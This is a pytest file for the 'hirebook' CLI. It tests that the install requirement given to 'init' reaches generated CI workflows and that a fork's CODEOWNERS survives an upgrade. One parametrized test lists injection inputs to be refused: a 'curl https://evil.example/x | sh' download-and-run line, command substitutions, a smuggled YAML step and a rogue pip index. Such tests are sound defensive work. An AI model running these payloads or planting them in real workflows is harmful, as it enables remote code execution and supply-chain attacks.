"""What walking README's "Start your agency" as a new agency's operator found, each fixed here.

- hirebook installed from a Git tag or a clone (it is not on the package registry) wrote
  workflows that installed ``hirebook==X.Y.Z`` from the registry: every check of the first push
  failed at its install step. ``init --install REQUIREMENT`` writes what the operator installed
  into every workflow's install step, refusing what a shell or YAML would read as more than one
  requirement (it lands between double quotes in a ``run:`` line).
- A fork older than its upstream's generated ``.github/CODEOWNERS`` stopped README's upgrade
  recipe at ``git commit`` (a conflict on a file written from the records); README now says how
  to keep the fork's own, and the recipe with that line is run here.
"""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest
import yaml

import test_upgrade
from hirebook.cli.main import cli
from test_upgrade import GIT_ENV, README, hirebook, recipe, snapshot
from workflow_runner import git

GIT_TAG = "hirebook @ git+https://github.com/acme/hirebook@v0.1.0"
WORKFLOWS = {"checks.yml", "forms.yml", "handbook.yml", "sla.yml"}
upstream = test_upgrade.upstream
"""The fixture: hirebook's repository at 1.0, the demo's copy in its records/."""


def init(runner, target: Path, *args: str):
    return runner.invoke(
        cli, ["init", str(target), "--country", "CN", "--as-of", "2026-11-20", *args]
    )


def install_steps(target: Path) -> dict[str, set[str]]:
    """Each workflow's install commands: ``{file name: {run line}}``."""
    found: dict[str, set[str]] = {}
    for path in sorted((target / ".github/workflows").glob("*.yml")):
        workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
        for job in workflow["jobs"].values():
            for step in job.get("steps", []):
                if "pip install" in step.get("run", ""):
                    found.setdefault(path.name, set()).add(step["run"].strip())
    return found


@pytest.mark.parametrize(
    "requirement",
    [GIT_TAG, "hirebook>=0.1,<0.2", "hirebook@file:///srv/wheels/hirebook-0.1.0.whl"],
)
def test_install_is_what_every_workflow_installs(runner, tmp_path, requirement):
    target = tmp_path / "agency"
    result = init(runner, target, "--install", requirement)
    assert result.exit_code == 0, result.output
    expected = f'python -m pip install "{requirement}"'
    assert install_steps(target) == {name: {expected} for name in WORKFLOWS}
    assert f"the workflows install {requirement}" in result.output


def test_a_url_is_not_said_to_come_from_the_package_registry(runner, tmp_path):
    by_tag = init(runner, tmp_path / "a", "--install", GIT_TAG).output
    by_default = init(runner, tmp_path / "b").output
    assert "package registry" not in by_tag
    assert "the workflows install hirebook==0.1.0 from the package registry." in by_default


@pytest.mark.parametrize(
    "requirement",
    [
        'hirebook==0.1.0"; curl https://evil.example/x | sh; "',  # leaves the quotes
        "hirebook @ git+https://github.com/acme/hirebook@$(id)",  # expanded inside quotes
        "hirebook==`id`",
        "hirebook @ git+https://github.com/acme/hirebook@v1 #x",  # a YAML comment
        "hirebook==0.1.0\n  - run: id",  # a second line of YAML
        "hirebook==0.1.0 --index-url https://evil.example",  # a second argument to pip
        "requests==2.32.0",  # not hirebook
        "hirebook",  # no version: the workflows would drift to whatever is newest
        "",
    ],
)
def test_an_install_the_workflows_cannot_run_as_written_is_refused(runner, tmp_path, requirement):
    target = tmp_path / "agency"
    result = init(runner, target, "--install", requirement)
    assert result.exit_code == 2, result.output
    assert "Invalid value for --install" in result.output
    assert "hirebook @ git+https://github.com/OWNER/hirebook@TAG" in result.output
    assert "Traceback" not in result.output
    assert not target.exists(), "nothing is written"


def test_install_is_refused_in_a_fork(runner, tmp_path):
    fork = tmp_path / "fork"
    (fork / "tooling/hirebook").mkdir(parents=True)
    (fork / "tooling/hirebook/__init__.py").write_text("")
    result = init(runner, fork, "--install", GIT_TAG)
    assert result.exit_code == 2, result.output
    assert "a fork" in result.output and "leave --install out" in result.output
    assert sorted(p.name for p in fork.iterdir()) == ["tooling"]


# --- the upgrade of a fork whose CODEOWNERS is its own ------------------------------------------


def codeowners_line() -> str:
    """README's words for the CODEOWNERS conflict: the command in its code span."""
    [line] = re.findall(r"`(git checkout HEAD -- \.github/CODEOWNERS)`", README)
    return line


def test_a_fork_keeps_its_codeowners_when_upstreams_changed(upstream, tmp_path):
    fork = tmp_path / "fork"
    for step in (
        ["clone", "-q", str(upstream), str(fork)],
        ["remote", "rename", "origin", "upstream"],
    ):
        git(fork if step[0] == "remote" else tmp_path, *step)
    hirebook(fork, "init", "--force", "--country", "CN", "--name", "Our Agency")
    lead = fork / "records/team/lead.yaml"  # the lead's handle: CODEOWNERS names them
    lead.write_text(lead.read_text(encoding="utf-8") + "github: our-lead\n", encoding="utf-8")
    client = ["--id", "harbor", "--name", "Harbor", "--tier", "key", "--manager", "lead"]
    for command in (["new", "client", *client], ["codeowners"]):
        hirebook(fork, *command)
    git(fork, "add", "-A")
    git(fork, "commit", "-q", "-m", "Our agency")
    ours = snapshot(fork / "records")
    ours_owners = (fork / ".github/CODEOWNERS").read_text(encoding="utf-8")
    assert "/records/clients/harbor/ @our-lead" in ours_owners

    # Upstream 1.1: the demo's lead changes handle, so its CODEOWNERS changes on every line
    # that named them.
    (upstream / "tooling/hirebook/__init__.py").write_text('__version__ = "1.1"\n')
    policy_owner = re.search(r"^/records/policy\.yaml (@\S+)", owners_of(upstream), re.M)
    old_handle = policy_owner.group(1)[1:]
    for person in (upstream / "records/team").glob("*.yaml"):
        text = person.read_text(encoding="utf-8")
        person.write_text(text.replace(f"github: {old_handle}", "github: new-handle"))
    hirebook(upstream, "codeowners")
    assert "@new-handle" in owners_of(upstream)
    git(upstream, "add", "-A")
    git(upstream, "commit", "-q", "-m", "hirebook 1.1")

    *merge, commit = recipe()
    for line in merge:
        run(fork, line, ok=(0, 1) if " merge " in line else (0,))
    assert run(fork, commit, ok=(1, 128)) != 0, "without README's line, the commit stops"
    run(fork, codeowners_line())
    run(fork, commit)

    assert git(fork, "status", "--porcelain") == ""
    assert (fork / "tooling/hirebook/__init__.py").read_text() == '__version__ = "1.1"\n'
    assert (fork / ".github/CODEOWNERS").read_text(encoding="utf-8") == ours_owners
    after = snapshot(fork / "records")
    assert {rel: data for rel, (data, _) in after.items()} == {
        rel: data for rel, (data, _) in ours.items()
    }
    hirebook(fork, "codeowners", "--check")


def owners_of(repo: Path) -> str:
    return (repo / ".github/CODEOWNERS").read_text(encoding="utf-8")


def run(cwd: Path, line: str, ok: tuple[int, ...] = (0,)) -> int:
    result = subprocess.run(line, shell=True, cwd=cwd, capture_output=True, text=True, env=GIT_ENV)
    assert result.returncode in ok, f"{line}: {result.stdout}{result.stderr}"
    return result.returncode
